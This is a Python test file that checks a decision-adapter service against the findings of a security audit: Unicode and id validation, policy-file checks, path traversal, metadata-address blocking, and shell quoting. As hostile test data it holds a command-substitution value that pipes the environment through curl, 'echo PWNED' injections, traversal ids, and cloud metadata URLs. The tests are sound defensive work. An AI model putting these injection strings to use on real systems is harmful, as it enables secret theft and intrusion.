"""Issue 33 (security and reliability round 3): one test per finding, most a table of the audit's own
bodies and arguments. Traffic goes to 127.0.0.1 or stays in-process; the address rule is tested on
its resolver, never by connecting to 169.254.x or 10.x."""
from __future__ import annotations

import errno
import json
import os
import shlex
import subprocess
import sys
import threading
import time
import unicodedata
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path

import httpx
import numpy as np
import pytest

from adapter.server.admission import Pace, RequestBudget, Stopped
from adapter.policy import MAX_POLICY_BYTES, PolicyError, load_policy
from adapter.server.decision_log import DecisionLog, DecisionLogSettings
from adapter.head import build_head
from adapter.ids import collision, id_problem, skeleton
from adapter.engine.models import file_sha256, resolve_model
from adapter.safe_path import UnsafePath, inside
from adapter.schema import DecisionRequest
from adapter.env_settings import SettingsError

ROOT = Path(__file__).resolve().parent.parent
SURROGATE = "\ud800"
OPTIONS = [{"id": "a"}, {"id": "b"}]


# -- the adapter in-process (the SmolLM2 fixture engine): bodies go through its real routes -------------
@pytest.fixture(scope="module")
def client(engine):
    from fastapi.testclient import TestClient

    from adapter.server.app import EngineHolder, create_app
    from adapter.server.settings import AdapterSettings

    holder = EngineHolder(lambda: engine)
    holder.start()
    holder.ready.wait(60)
    with TestClient(create_app(holder, AdapterSettings.from_env({})), raise_server_exceptions=False) as c:
        yield c


def send(client, path: str, doc, ctype: str = "application/json"):
    """`doc` as JSON text the way a client writes it: a lone surrogate becomes the escape \\ud800 (and the
    /v1/systemone model "M" the served model's name)."""
    if isinstance(doc, dict) and doc.get("model") == "M":
        doc = {**doc, "model": client.app.state.holder.get().info.file.rsplit(".gguf", 1)[0]}
    body = doc if isinstance(doc, bytes) else json.dumps(doc).encode()  # ensure_ascii: escapes, never raw bytes
    return client.post(path, content=body, headers={"content-type": ctype})


ROW = {"id": "r", "state": "my parcel is late", "question": "q", "options": OPTIONS}
S1 = {"model": "M", "state": "charged twice",
      "questions": {"q": {"type": "choice", "criteria": {"billing": None, "access": None}}}}

SURROGATE_BODIES = [  # (route, body, the loc the 422 must name) - the audit's 7 bodies that gave 500, and more
    ("/invocations", {**ROW, "state": {"k": SURROGATE}}, ["state", "k"]),
    ("/invocations", {**ROW, "state": ["fine", SURROGATE]}, ["state", 1]),
    ("/invocations", {**ROW, "state": {SURROGATE: "v"}}, ["state", "\\ud800"]),
    ("/invocations", {**ROW, "examples": [{"state": {"k": "x" + SURROGATE}, "option_id": "a"}]},
     ["examples", 0, "state", "k"]),
    ("/invocations", {**ROW, "question": "q" + SURROGATE}, ["question"]),
    ("/invocations", {**ROW, "options": [{"id": "a", "description": SURROGATE}, {"id": "b"}]},
     ["options", 0, "description"]),
    ("/invocations", [ROW, {**ROW, "id": SURROGATE}], [1, "id"]),
    ("/invocations", {"state": {"k": SURROGATE}, "questions": [{k: v for k, v in ROW.items() if k != "state"}]},
     ["state", "k"]),
    ("/invocations", {"state": "s", "questions": [{"id": "q1", "question": "q", "options": [{"id": SURROGATE},
                                                                                          {"id": "b"}]}]},
     ["questions", 0, "options", 0, "id"]),
    ("/v1/systemone", {**S1, "state": {"k": SURROGATE}}, ["body", "state", "k"]),
    ("/v1/systemone", {**S1, "questions": {SURROGATE: S1["questions"]["q"]}}, ["body", "questions", "\\ud800"]),
    ("/v1/systemone", {**S1, "questions": {"q": {"type": "choice", "criteria": {"billing": None, SURROGATE: None}}}},
     ["body", "questions", "q", "criteria", "\\ud800"]),
    ("/v1/systemone", {**S1, "questions": {"q": {"type": "choice", "instructions": SURROGATE,
                                                  "criteria": {"billing": None, "access": None}}}},
     ["body", "questions", "q", "instructions"]),
]


@pytest.mark.parametrize("route,doc,loc", SURROGATE_BODIES)
def test_a_lone_surrogate_anywhere_is_a_422_naming_the_field(client, route, doc, loc):
    res = send(client, route, doc)
    assert res.status_code == 422, res.text
    (err,) = res.json()["detail"]
    assert err["loc"] == loc and "surrogate" in err["msg"] and err["type"] == "string_unicode"


def test_a_json_lines_batch_with_a_surrogate_line_answers_every_other_line(client):
    good = json.dumps(ROW)
    body = "\n".join([good, json.dumps({**ROW, "id": "bad", "state": {"k": SURROGATE}}), json.dumps({**ROW, "id": "r3"})])
    res = client.post("/invocations", content=body.encode(), headers={"content-type": "application/jsonlines"})
    assert res.status_code == 200, res.text
    out = [json.loads(line) for line in res.text.splitlines()]
    assert [o.get("id") for o in out] == ["r", None, "r3"]
    assert out[0]["option_ids"] == ["a", "b"] and out[2]["option_ids"] == ["a", "b"]
    assert out[1]["error"]["status"] == 422 and out[1]["error"]["detail"][0]["loc"] == ["state", "k"]


def test_a_valid_surrogate_pair_is_text(client):
    res = send(client, "/invocations", {**ROW, "state": {"k": "\U0001F600 refund"}})  # json.dumps writes the pair
    assert res.status_code == 200, res.text


# -- item 8: ids ----------------------------------------------------------------------------------------
NFC, NFD = unicodedata.normalize("NFC", "café"), unicodedata.normalize("NFD", "café")
ID_CASES = [  # (option ids, the index whose id the 422 names, what the message says)
    ([NFC, NFD], 1, "normal form"),
    (["a", "\u0430"], 1, "look-alike"),  # Latin a, Cyrillic a
    (["pay", "p\u0430y"], 1, "mixes letters"),  # one Cyrillic letter inside a Latin word
    (["billing", " billing"], 1, "whitespace"),
    (["ok", "x" * 10_000], 1, "at most 200"),
    (["OK", "ＯＫ"], 1, "look-alike"),  # fullwidth
]


@pytest.mark.parametrize("ids,at,says", ID_CASES)
def test_option_ids_that_pose_as_others_are_refused_at_their_loc(client, ids, at, says):
    res = send(client, "/invocations", {**ROW, "options": [{"id": i} for i in ids]})
    assert res.status_code == 422, res.text
    err = res.json()["detail"][0]
    assert err["loc"] == ["options", at, "id"] and says in err["msg"], err


@pytest.mark.parametrize("ids,at,says", ID_CASES)
def test_systemone_choice_names_follow_the_same_rule_at_their_own_loc(client, ids, at, says):
    doc = {**S1, "questions": {"q": {"type": "choice", "criteria": {i: None for i in ids}}}}
    res = send(client, "/v1/systemone", doc)
    assert res.status_code == 422, res.text
    err = res.json()["detail"][0]
    assert err["loc"] == ["body", "questions", "q", "criteria", ids[at]] and says in err["msg"], err


def test_ids_are_returned_exactly_as_sent(client):
    res = send(client, "/invocations", {**ROW, "options": [{"id": NFD}, {"id": "注文ID"}]})  # Latin + Han: allowed
    assert res.status_code == 200 and res.json()["option_ids"] == [NFD, "注文ID"]
    res = send(client, "/v1/systemone", {**S1, "questions": {"q": {"type": "choice", "criteria": {"billing": None,
                                                                                              "access": None}}}})
    assert res.status_code == 200 and set(res.json()["answers"]["q"]["probabilities"]) == {"billing", "access"}


def test_the_id_rule_in_pieces():
    assert skeleton("\u0430") == skeleton("a") and skeleton(NFD) == skeleton(NFC)
    assert collision(["billing", "shipping"]) is None and collision(["x", "y", "х"]) == (0, 2)  # Cyrillic х
    assert id_problem("пример") is None and id_problem("ticket-7") is None  # one script each
    assert "U+202E" in id_problem("a\u202eb")


# -- item 10: strict booleans, one rule for a row's fields vs its policy's -------------------------------
@pytest.mark.parametrize("field,value", [("hidden_state", "yes"), ("hidden_state", 1), ("hidden_state", "true"),
                                         ("permute", "true"), ("permute", 1), ("few_shot", "no")])
def test_booleans_are_strict(field, value):
    with pytest.raises(Exception) as info:
        DecisionRequest.model_validate({**ROW, field: value})
    assert field in str(info.value)


def policy_doc(sha: str, **extra) -> dict:
    return {"schema_version": "semif-policy/1", "policy_id": "routing", "question": "Which queue?",
            "options": [{"id": "billing", "description": "money"}, {"id": "shipping", "description": "parcels"}],
            "examples": [{"state": "charged twice", "option_id": "billing"}],
            "readout": "letters", "debias": "none", "prompt_version": "letters/1",
            "model": {"file": "m.gguf", "sha256": sha}, "temperature": 1.0, "threshold": 0.5,
            "fallback_option": "human-review", "created_at": "2026-12-03T00:00:00Z", **extra}


@pytest.mark.parametrize("field,value,ok", [
    ("question", "Which queue?", True), ("question", "  Which queue?  ", True), ("question", "Another question?", False),
    ("readout", "letters", True), ("readout", "option-words", False),
    ("examples", [{"state": "charged twice", "option_id": "billing"}], True), ("examples", [], False),
    ("options", [{"id": "billing"}, {"id": "shipping"}], True), ("options", [{"id": "shipping"}, {"id": "billing"}], False),
    ("options", [{"id": "billing", "description": "other"}, {"id": "shipping"}], False),
    ("debias", "content-free", False), ("permute", True, False),
])
def test_a_row_naming_a_policy_may_repeat_its_fields_but_not_change_them(field, value, ok):
    from adapter.server.calibrated import PolicySet
    from adapter.schema import RequestError

    pol = load_policy(policy_doc("0" * 64))
    row = {"id": "r", "state": "s", "policy_id": "routing", field: value}
    if ok:
        assert PolicySet({"routing": pol}).fill(row, []) is pol and row[field] == pol.request_fields()[field]
    else:
        with pytest.raises(RequestError) as info:
            PolicySet({"routing": pol}).fill(row, [3])
        assert info.value.loc == [3, field] and "differs from policy" in info.value.msg


# -- item 2 / 3 / 10: one policy validator, on every path a policy file takes ----------------------------
@pytest.fixture(scope="module")
def gguf() -> Path:
    return resolve_model("smollm2").path


def head_doc(sha: str, **over) -> dict:
    head = build_head("linc", ["billing", "shipping"], hidden_dim=0, center=np.zeros(2), scale=np.ones(2),
                      W=np.array([[1.0, -1.0], [-1.0, 1.0]]), b=np.zeros(2), model_sha256=sha,
                      prompt_version="letters/1", regularisation=1.0, rows=30)
    return {**head.model_dump(), **over}


def bad_policies(sha: str, tmp: Path) -> list[tuple[str, bytes, str]]:
    """(case, file bytes, what the refusal says) - the audit's five, and the smaller ones of item 10."""
    good = policy_doc(sha, head=head_doc(sha), temperature=1.0)
    nan = json.dumps(good).replace('"bias": [0.0, 0.0]', '"bias": [NaN, 0.0]')
    assert "NaN" in nan
    inf = json.dumps(good).replace('"regularisation": 1.0', '"regularisation": Infinity')
    huge = json.dumps(policy_doc(sha, head=head_doc(sha, center="A" * (MAX_POLICY_BYTES + 10))))
    wide = json.dumps(policy_doc(sha, head=head_doc(sha, weights="AAAA" * 400_000)))  # 1.6 MB: under the cap
    deep = json.dumps(good)[:-1] + ', "metrics": ' + "[" * 100_000 + "]" * 100_000 + "}"
    return [("NaN weights", nan.encode(), "NaN"),
            ("Infinity regularisation", inf.encode(), "Infinity"),
            ("deep nesting", deep.encode(), "nested"),
            ("not UTF-8", json.dumps(good).encode().replace(b"Which", b"Wh\xffch"), "UTF-8"),
            ("over the size cap", huge.encode(), "bytes"),
            ("a wrong-shape head", wide.encode(), "does not fit this shape"),
            ("another model's head", json.dumps(policy_doc("1" * 64, head=head_doc("1" * 64))).encode(), "calibrated on"),
            ("path traversal id", json.dumps({**good, "policy_id": "../../../../escaped"}).encode(), "not a policy id"),
            ("lone surrogate", json.dumps({**good, "question": SURROGATE}).encode(), "surrogate"),
            ("NaN gate", json.dumps({**good, "threshold": float("nan")}).encode(), "NaN")]


def test_the_packager_refuses_every_invalid_policy_before_packaging(gguf, tmp_path):
    from deploy.package import check_policy

    sha = file_sha256(gguf)
    good = tmp_path / "good.json"
    good.write_text(json.dumps(policy_doc(sha, head=head_doc(sha))))
    check_policy(good, gguf)  # the control: a valid policy of this model passes
    for case, data, says in bad_policies(sha, tmp_path):
        path = tmp_path / "p.json"
        path.write_bytes(data)
        with pytest.raises(ValueError) as info:  # PolicyError: never RecursionError, MemoryError, ...
            check_policy(path, gguf)
        assert says in str(info.value), (case, str(info.value)[:300])


def test_deploy_plan_exits_2_and_packages_nothing_for_an_invalid_policy(gguf, tmp_path):
    sha = file_sha256(gguf)
    work = tmp_path / "work"
    for case, data, says in [c for c in bad_policies(sha, tmp_path) if c[0] in ("NaN weights", "another model's head")]:
        path = tmp_path / "p.json"
        path.write_bytes(data)
        out = subprocess.run([sys.executable, "-m", "app", "deploy", "plan", "--serving", "semif", "--model", str(gguf),
                              "--policy", str(path), "--work-dir", str(work), "--db", str(tmp_path / "wb.db")],
                             capture_output=True, text=True, cwd=ROOT, timeout=120)
        assert out.returncode == 2 and "Traceback" not in out.stderr and says in out.stderr, (case, out.stderr[-500:])
        assert not list(work.rglob("model.tar.gz")), case


def test_the_deploy_page_upload_and_the_adapter_start_up_use_the_same_validator(gguf, tmp_path):
    from adapter.policy import discover_policies
    from app.service import deploy

    sha = file_sha256(gguf)
    for case, data, says in bad_policies(sha, tmp_path):
        if case == "another model's head":  # the upload does not know the model yet: the plan checks it (above)
            continue
        with pytest.raises(ValueError) as info:
            deploy.load_calibrated(data)
        assert says in str(info.value), case
        (tmp_path / "models").mkdir(exist_ok=True)
        (tmp_path / "models" / "policy.json").write_bytes(data)
        with pytest.raises(PolicyError):
            discover_policies(tmp_path / "models", None)


def test_a_policy_file_is_never_written_outside_its_folder(tmp_path, monkeypatch):
    from app.service import deploy

    monkeypatch.setattr(deploy, "WORK", tmp_path / "work")
    config = policy_doc("0" * 64, policy_id="../../../../escaped")
    with pytest.raises(ValueError):
        deploy.policy_file(config, 1)
    assert not (tmp_path / "escaped-1.policy.json").exists() and not list(tmp_path.rglob("escaped*"))
    ok = deploy.policy_file(policy_doc("0" * 64, threshold=None), 1)  # a policy with no global gate is fine
    assert ok.parent == (tmp_path / "work" / "policies").resolve()
    for name in ("../x", "a/b", "..", ".hidden", "a\x00b", ""):
        with pytest.raises(UnsafePath):
            inside(tmp_path, name)
    link = tmp_path / "out"
    link.symlink_to("/tmp")
    with pytest.raises(UnsafePath):
        inside(tmp_path, "out", "x")  # a folder that is a link pointing out: resolved, refused


# -- item 4 / 5: targets -----------------------------------------------------------------------------------
def test_a_sagemaker_target_refuses_undeclared_fields_and_a_bad_region():
    from app.targets.base import TargetError
    from app.targets.registry import build_target, validate_target_spec

    hostile = "us-east-1 $(env|curl -d @- http://127.0.0.1:9)"
    errs = validate_target_spec("sm", "sagemaker", {"endpoint_name": "e", "region": hostile,
                                                     "endpoint_url": "http://127.0.0.1:9"})
    assert set(errs) == {"region", "endpoint_url"}
    for cfg in ({"endpoint_name": "e", "endpoint_url": "http://127.0.0.1:9"}, {"endpoint_name": "e", "region": hostile},
                {"model_name": "m", "bucket": "semif-b", "endpoint_url": "http://127.0.0.1:9"}):
        kind = "sagemaker-batch" if "bucket" in cfg else "sagemaker"
        with pytest.raises(TargetError):  # a spec saved before the rule (or by hand) is not built either
            build_target({"name": "sm", "kind": kind, "config": cfg})
    assert set(validate_target_spec("x", "semif", {"url": "http://127.0.0.1:8080", "endpoint_url": "x"})) == \
        {"endpoint_url"}


def test_sagemaker_calls_go_where_the_operator_says_never_where_a_config_says(monkeypatch):
    from app.targets.remote import SageMakerTarget

    monkeypatch.setenv("AWS_ACCESS_KEY_ID", "canary")
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "canary")
    monkeypatch.delenv("SEMIF_AWS_RUNTIME_URL", raising=False)
    monkeypatch.delenv("SEMIF_AWS_ENDPOINT_URL", raising=False)
    t = SageMakerTarget("sm", {"endpoint_name": "e", "region": "us-east-1", "endpoint_url": "http://127.0.0.1:9"})
    assert "127.0.0.1" not in t.client().meta.endpoint_url
    monkeypatch.setenv("SEMIF_AWS_RUNTIME_URL", "http://127.0.0.1:7")
    assert t.client().meta.endpoint_url == "http://127.0.0.1:7"


PWN = "$(echo PWNED)"


@pytest.mark.parametrize("kind,cfg", [
    ("sagemaker", {"endpoint_name": "e-1", "region": f"us-east-1 {PWN}"}),
    ("sagemaker", {"endpoint_name": f"e;echo PWNED;{PWN}", "region": "`echo PWNED`"}),
    ("semif", {"url": f"http://127.0.0.1:8080/{PWN}", "api_key_env": "SEMIF_KEY_A"}),
    ("chat", {"url": "http://127.0.0.1:8080", "api_key_env": 'x"; echo PWNED; "'}),
    ("local", {"model": f"/tmp/a'b {PWN}.gguf"}),
])
def test_every_value_in_a_snippet_is_shell_quoted(kind, cfg):
    """Each bash snippet run by bash with its command replaced by printf: every argument comes back
    literally (nothing substituted, no second command), and the body in its quoted heredoc is the body."""
    from app.core.snippets import for_target

    body = {"id": "r", "state": f"it's {PWN} `echo PWNED` \"quoted\"\nJSON\n", "question": "q", "options": OPTIONS}
    ran, args = 0, []
    for title, lang, code in for_target({"kind": kind, "config": cfg}, body):
        if lang != "bash":
            continue
        words = code.split(" ", 1)
        out = subprocess.run(["bash", "-c", "printf '%s\\n' " + words[1]], capture_output=True, text=True, timeout=10,
                             env={"PATH": os.environ.get("PATH", "/usr/bin:/bin")})
        assert out.returncode == 0, (title, out.stderr)
        assert all(PWN in a or "`echo PWNED`" in a or "echo PWNED;" in a for a in out.stdout.splitlines()
                   if "PWNED" in a), (title, out.stdout)
        args += out.stdout.splitlines()
        heredoc = code.split("<<'JSON'\n", 1)
        if len(heredoc) == 2:  # the body: a quoted heredoc that nothing in the state can end
            assert json.loads(heredoc[1].rsplit("\nJSON", 1)[0]) == body
        ran += 1
    assert ran
    for value in cfg.values():  # each hostile value came back as (part of) one argument, literally
        if "PWNED" in value and kind != "chat":
            assert any(value in a for a in args), (value, args)


ADDRESSES = [  # (url, what the fake resolver answers, refused?)
    ("http://169.254.169.254/latest/meta-data/", None, True),
    ("http://[fd00:ec2::254]/latest/", None, True),
    ("http://[::ffff:169.254.169.254]/", None, True),
    ("http://169.254.10.10:8080", None, True),
    ("http://metadata.internal/", ["169.254.169.254"], True),
    ("http://adapter.corp/", ["10.0.0.7", "169.254.169.254"], True),  # any address of a name counts
    ("http://10.0.0.1:8080", None, False),  # private ranges stay allowed (self-hosted adapters)
    ("http://192.168.1.5:8080", None, False),
    ("http://127.0.0.1:8080", None, False),
    ("http://adapter.corp:8080", ["10.1.2.3"], False),
    ("http://127.0.0.1:8080/#/admin", None, True),
    ("http://127.0.0.1:8080/admin?x=", None, True),
    ("http://user:pw@127.0.0.1:8080", None, True),
    ("ftp://127.0.0.1/", None, True),
]


@pytest.mark.parametrize("url,answers,refused", ADDRESSES)
def test_the_address_rule(url, answers, refused):
    from app.targets.addresses import url_problem

    def resolver(host, port):
        return answers if answers is not None else [host.strip("[]")]

    assert (url_problem(url, resolver=resolver) is not None) == refused
    if refused and ("169.254" in url or answers):
        assert url_problem(url, resolver=resolver, allow_link_local=True) is None  # the operator's setting


def test_a_refused_address_is_never_connected_to(monkeypatch):
    from app.targets import base
    from app.targets.base import TargetError

    monkeypatch.setattr(base.httpx, "request", lambda *a, **k: pytest.fail("connected"))
    with pytest.raises(TargetError, match="metadata"):
        base.http_json("GET", "http://169.254.169.254/latest/meta-data/", headers={"Authorization": b"Bearer k"})
    from app.targets.registry import validate_target_spec

    assert "url" in validate_target_spec("m", "semif", {"url": "http://169.254.169.254"})
    assert validate_target_spec("m", "semif", {"url": "http://10.0.0.1:8080"}) == {}


def test_a_redirect_is_not_followed_with_the_key():
    from app.targets.base import TargetError, http_json

    seen: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self):
            seen.append(self.path + " " + str(self.headers.get("Authorization")))
            self.send_response(302)
            self.send_header("Location", f"http://127.0.0.1:{self.server.server_port}/elsewhere")
            self.end_headers()

        def log_message(self, *args):
            pass

    srv = HTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=srv.serve_forever, daemon=True).start()
    try:
        with pytest.raises(TargetError, match="redirect"):
            http_json("GET", f"http://127.0.0.1:{srv.server_port}/info", headers={"Authorization": b"Bearer k"})
    finally:
        srv.shutdown()
    assert seen == ["/info Bearer k"]  # the redirect's target never got the key


# -- item 6: commands ------------------------------------------------------------------------------------
def app_main(args: list[str], capsys) -> tuple[int, str]:
    from app.__main__ import main

    try:
        code = main(args)
    except SystemExit as exc:  # argparse's own usage errors
        code = exc.code if isinstance(exc.code, int) else 1
    err = capsys.readouterr().err
    return code, err


@pytest.fixture
def no_scoring(monkeypatch):
    """Any scoring fails the test: every bad argument must be refused before."""
    from app.service import evaluate

    monkeypatch.setattr(evaluate, "evaluate_one", lambda *a, **k: pytest.fail("scored before the arguments were checked"))


BAD_CALIBRATE = [
    ["--target-accuracy", "7"], ["--target-accuracy", "nan"], ["--target-accuracy", "-1"], ["--target-accuracy", "0"],
    ["--gate", "-3"], ["--gate", "nan"], ["--gate", "1.5"], ["--gate", "inf"], ["--fallback", ""], ["--fallback", " x"],
    ["--out", "FOLDER"], ["--out", "/proc/semif-out.json"], ["--out", "MISSING/x.json"], ["--n-examples", "-2"],
    ["--target", "no-such-target"],
]


@pytest.mark.parametrize("extra", BAD_CALIBRATE)
def test_calibrate_checks_every_argument_before_scoring(extra, tmp_path, capsys, no_scoring):
    extra = [a.replace("FOLDER", str(tmp_path)).replace("MISSING", str(tmp_path / "missing")) for a in extra]
    code, err = app_main(["calibrate", "--policy", "ticket-routing", "--labeled-set", "ticket-routing",
                          "--db", str(tmp_path / "wb.db"), *extra], capsys)
    assert code == 2 and "Traceback" not in err and err.strip(), err


def test_a_deeply_nested_policy_file_is_a_usage_error_for_calibrate_and_check(tmp_path, capsys, no_scoring):
    deep = tmp_path / "deep.json"
    deep.write_text("[" * 100_000 + "]" * 100_000)
    for cmd in (["calibrate", "--labeled-set", "ticket-routing"], ["check", "--labeled-set", "ticket-routing", "--min-accuracy", "0.5"]):
        code, err = app_main([*cmd, "--policy", str(deep), "--db", str(tmp_path / "wb.db")], capsys)
        assert code == 2 and "nested" in err and "Traceback" not in err and "RecursionError" not in err, err


@pytest.mark.parametrize("cmd", [["calibrate", "--policy", "ticket-routing", "--labeled-set", "ticket-routing"],
                                 ["check", "--policy", "ticket-routing", "--labeled-set", "ticket-routing"]])
def test_a_corrupted_database_is_one_readable_line(cmd, tmp_path, capsys, no_scoring):
    bad = tmp_path / "wb.db"
    bad.write_bytes(b"this is not a database" * 200)
    code, err = app_main([*cmd, "--db", str(bad)], capsys)
    assert code == 5 and "not a SQLite database" in err and len(err.strip().splitlines()) == 1, err


def test_a_corrupted_database_is_a_readable_message_on_a_page(tmp_path, monkeypatch):
    from streamlit.testing.v1 import AppTest

    bad = tmp_path / "wb.db"
    bad.write_bytes(b"this is not a database" * 200)
    monkeypatch.setenv("SEMIF_DB", str(bad))
    at = AppTest.from_file(str(ROOT / "app" / "main.py"), default_timeout=120).run()
    assert not at.exception, at.exception and "\n".join(at.exception[0].stack_trace)
    assert any("not a SQLite database" in e.value for e in at.error), [e.value for e in at.error]


# -- item 7: the decision log ------------------------------------------------------------------------------
def test_a_decision_log_path_that_cannot_be_a_log_is_the_exit_2_line(tmp_path):
    for dest in (str(tmp_path), "/proc/semif-decisions.jsonl"):
        out = subprocess.run([sys.executable, "-m", "adapter", "serve", "--port", "0"], capture_output=True, text=True,
                             cwd=ROOT, timeout=60, env={**os.environ, "SM_SEMIF_DECISION_LOG": dest})
        assert out.returncode == 2 and "SM_SEMIF_DECISION_LOG" in out.stderr and "Traceback" not in out.stderr, \
            out.stderr[-800:]
    with pytest.raises(SettingsError):
        DecisionLogSettings.from_env({"SM_SEMIF_DECISION_LOG": str(tmp_path)})


def test_the_decision_log_follows_a_rotated_file(tmp_path):
    path = tmp_path / "decisions.jsonl"
    dlog = DecisionLog(DecisionLogSettings.from_env({"SM_SEMIF_DECISION_LOG": str(path)}))
    dlog.write(['{"n": 1}'])
    path.rename(tmp_path / "decisions.jsonl.1")  # logrotate's move
    dlog.write(['{"n": 2}'])
    assert path.read_text() == '{"n": 2}\n' and (tmp_path / "decisions.jsonl.1").read_text() == '{"n": 1}\n'
    path.unlink()  # removed outright
    dlog.write(['{"n": 3}'])
    assert path.read_text() == '{"n": 3}\n'
    dlog.close()


def test_lines_lost_on_a_full_disk_are_counted_truly(tmp_path, monkeypatch, caplog):
    import adapter.server.decision_log as dl

    path = tmp_path / "decisions.jsonl"
    dlog = DecisionLog(DecisionLogSettings.from_env({"SM_SEMIF_DECISION_LOG": str(path)}))
    lines = [json.dumps({"n": i, "pad": "x" * 20}) for i in range(5)]
    real = os.write
    budget = {"left": len(lines[0]) * 2 + 10}  # room for two lines and a bit of the third

    def full_disk(fd, data):
        if budget["left"] <= 0:
            raise OSError(errno.ENOSPC, "No space left on device")
        n = real(fd, bytes(data[: budget["left"]]))
        budget["left"] -= n
        return n

    monkeypatch.setattr(dl.os, "write", full_disk)
    dlog.write(lines)
    assert dlog.lost == 3 and "3 of 5 line(s) not written" in caplog.text
    monkeypatch.setattr(dl.os, "write", real)  # space again
    dlog.write(['{"n": 99}'])
    dlog.close()
    parsed = []
    for line in path.read_text().splitlines():
        try:
            parsed.append(json.loads(line)["n"])
        except ValueError:
            pass  # the torn line the full disk cut off: one of the 3 counted lost
    assert parsed == [0, 1, 99]  # 5 - 3 of the batch, then the next line parses


# -- item 9: a request that cannot finish is refused before the work -----------------------------------
def test_the_measured_pace_refuses_before_the_work():
    pace = Pace()
    for _ in range(3):
        pace.record(1000, 45.0)  # ~22 tokens/s: the audit's loaded 2-core machine
    budget = RequestBudget(60, pace, working=True)
    with pytest.raises(Stopped) as info:
        budget.forecast(1751)  # letters + content-free on 26 options: ~80 s at that pace
    assert info.value.status == 413 and "before any work" in info.value.message and budget.done == 0
    assert "SM_SEMIF_REQUEST_TIMEOUT=60 s; stopped after" in info.value.message  # the deadline's own wording
    RequestBudget(60, pace, working=True).forecast(900)  # ~40 s fits: no refusal on an estimate
    late = RequestBudget(60, pace, working=True, started=time.monotonic() - 45)
    with pytest.raises(Stopped) as info:
        late.forecast(900)  # it would fit a whole deadline, not what the queue left of it: load, worth a retry
    assert info.value.status == 503
    RequestBudget(60, Pace(), working=True).forecast(10 ** 9)  # no measured pace yet: never refused on a guess


def test_the_engine_forecasts_a_many_option_content_free_row_before_evaluating(engine):
    class Recording:
        def __init__(self):
            self.forecast_at, self.forecast_tokens, self.done = None, None, 0

        def count_tokens(self, *, planned=0, done=0):
            self.done += done

        def forecast(self, tokens, cacheable=0):
            self.forecast_at, self.forecast_tokens = self.done, tokens

        def check(self):
            pass

        def should_stop(self):
            return False

    letters = "abcdefghijkl"  # 12 of the 26 (the same work per option; the whole 26 took 56 s on a loaded fixture)
    row = DecisionRequest(id="r", state="I was charged twice for one order", question="Which queue?",
                          options=[{"id": f"queue-{c}"} for c in letters], readout="letters", debias="content-free")
    engine.clear_cache()
    engine._priors.clear()
    b = Recording()
    engine.score_many([row], budget=b)
    assert b.forecast_at == 0 and b.forecast_tokens is not None  # told before the first token
    assert 0.75 * b.done <= b.forecast_tokens <= 1.25 * b.done, (b.forecast_tokens, b.done)


def test_the_deploy_page_shows_a_gateless_policy_and_refuses_a_traversal_id(db, gguf):
    """A saved policy with `threshold: null` is offered and captioned (the caption's format raised), and
    one whose policy_id would leave its folder is a readable error on the page, with no file written."""
    from streamlit.testing.v1 import AppTest

    from app.service import deploy

    sha = file_sha256(gguf)
    gateless = db.save_calibrated(policy_doc(sha, threshold=None, policy_id="gateless"))
    escaping = db.save_calibrated({**policy_doc(sha), "policy_id": "../../../../escaped-page"})
    at = AppTest.from_file(str(ROOT / "app" / "main.py"), default_timeout=120).run()
    at.switch_page("views/deploy.py").run()
    assert not at.exception, at.exception and "\n".join(at.exception[0].stack_trace)
    at.selectbox(key="dep_cal").select(gateless).run()
    assert not at.exception and any("no global gate" in c.value for c in at.caption), [c.value for c in at.caption]
    at.selectbox(key="dep_cal").select(escaping).run()
    assert not at.exception and any("not a policy id" in e.value for e in at.error), [e.value for e in at.error]
    assert not list(deploy.WORK.parent.rglob("escaped-page*"))


def test_the_score_command_applies_the_same_text_rule(tmp_path):
    rows = tmp_path / "rows.jsonl"
    rows.write_text(json.dumps(ROW) + "\n" + json.dumps({**ROW, "state": {"k": SURROGATE}}) + "\n")
    out = subprocess.run([sys.executable, "-m", "adapter", "score", str(rows)], capture_output=True, text=True,
                         cwd=ROOT, timeout=120)
    assert out.returncode == 2 and "line 2: state.k" in out.stderr and "surrogate" in out.stderr, out.stderr[-500:]
    assert "Traceback" not in out.stderr
